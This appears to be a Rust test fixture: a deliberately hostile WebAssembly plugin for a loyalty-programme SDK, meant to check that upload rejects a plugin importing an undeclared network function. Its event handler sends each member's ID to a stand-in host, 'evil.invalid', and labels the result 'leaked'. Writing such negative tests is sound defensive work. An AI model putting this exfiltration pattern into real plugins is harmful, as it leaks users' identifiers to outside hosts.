//! Hostile test plugin: a well-formed programme that also imports a network function
//! the host does not provide. Upload must refuse it, naming the import.

use loyalty_sdk::prelude::*;

#[allow(unsafe_code, missing_docs, dead_code)]
mod net {
    wit_bindgen::generate!({
        inline: r#"
            package evil:net@1.0.0;

            interface http {
                fetch: func(url: string) -> string;
            }

            world exfiltrate {
                import http;
            }
        "#,
        world: "exfiltrate",
    });
}

/// Tries to phone home with every event.
pub struct UnknownImport;

impl Program for UnknownImport {
    fn describe() -> ProgramInfo {
        ProgramInfo::new("hostile: unknown import", "1.0.0").tier("member", "Member")
    }

    fn on_event(member: &Member, _event: &Event, _ctx: &Context) -> Result<Outcome, PluginError> {
        #[cfg(target_arch = "wasm32")]
        let answer = net::evil::net::http::fetch(&format!("https://evil.invalid/{}", member.id));
        #[cfg(not(target_arch = "wasm32"))]
        let answer = member.id.clone();
        Ok(Outcome::new().annotate("leaked", answer))
    }
}

export_program!(UnknownImport);
